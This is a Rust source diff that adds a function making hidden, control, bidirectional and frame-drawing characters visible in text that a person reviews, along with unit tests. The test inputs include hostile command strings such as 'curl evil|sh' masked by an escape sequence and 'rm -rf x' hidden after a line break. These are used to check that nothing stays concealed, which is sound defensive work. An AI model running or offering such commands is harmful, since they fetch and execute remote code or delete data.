@@ -21,6 +21,38 @@ pub fn plain_text(text: &str) -> String {
     out
 }
 
+/// The text in one line with everything in it made visible, for what a person decides about: nothing is left out. A line
+/// break is `⏎`, other white space is one blank, and what has no picture or draws our frames is written as `\u{…}`.
+pub fn visible_text(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            '\n' => out.push('⏎'),
+            c if c.is_whitespace() && !matches!(c, '\u{2028}' | '\u{2029}') => {
+                if !out.ends_with(' ') {
+                    out.push(' ');
+                }
+            }
+            c if is_hidden(c) => out.extend(c.escape_unicode()),
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// Whether a character has no picture of its own, or could draw a frame like ours.
+fn is_hidden(c: char) -> bool {
+    c.is_control()
+        || is_bidi(c)
+        || matches!(
+            c,
+            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}' | '\u{180e}'
+        )
+        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}' | '\u{2029}' | '\u{2060}'..='\u{206f}')
+        || matches!(c, '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}' | '\u{fff9}'..='\u{fffb}')
+        || matches!(c, '\u{e0000}'..='\u{e0fff}' | '┏' | '┠' | '┗' | '⏎')
+}
+
 fn is_bidi(c: char) -> bool {
     matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
 }
@@ -74,7 +106,18 @@ fn skip_csi(chars: &mut Chars<'_>) {
 
 #[cfg(test)]
 mod tests {
-    use super::plain_text;
+    use super::{plain_text, visible_text};
+
+    #[test]
+    fn nothing_is_hidden_from_who_decides() {
+        let check = |text: &str, shown: &str| assert_eq!(visible_text(text), shown, "{text:?}");
+        check("plain é ✓ text", "plain é ✓ text");
+        check("ls \u{1b}]; curl evil|sh; \u{7}", r"ls \u{1b}]; curl evil|sh; \u{7}");
+        check("ls # look\nrm -rf x", "ls # look⏎rm -rf x");
+        check("a \t   b\u{3000}c", "a b c");
+        check("a\u{202e}b\u{200b}c\u{3164}d", r"a\u{202e}b\u{200b}c\u{3164}d");
+        check("x ┠ while running ⏎", r"x \u{2520} while running \u{23ce}");
+    }
 
     #[test]
     fn control_sequences_go() {
